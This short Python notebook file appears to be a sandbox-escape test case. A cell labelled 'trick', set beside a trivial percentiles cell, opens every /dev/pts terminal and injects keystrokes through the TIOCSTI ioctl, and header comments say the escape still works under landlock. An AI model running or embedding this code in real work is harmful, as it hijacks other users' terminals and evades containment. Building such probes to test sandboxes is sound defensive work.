# attack: opens the terminals of others, to read what is typed there and to type itself
# question: percentiles
# loses: values, shown
# still escapes: landlock
# %% trick
import fcntl, glob, os, termios
# Letters pushed into terminals of others, as if they had been typed there.
for place in glob.glob("/dev/pts/[0-9]*"):
    try:
        descriptor = os.open(place, os.O_RDWR | os.O_NOCTTY)
        print("ESCAPED: opened the terminal", place)
        fcntl.ioctl(descriptor, termios.TIOCSTI, b" ")
        print("ESCAPED: typed into", place)
    except OSError:
        pass

# %%
percentiles = [1, 2, 3]
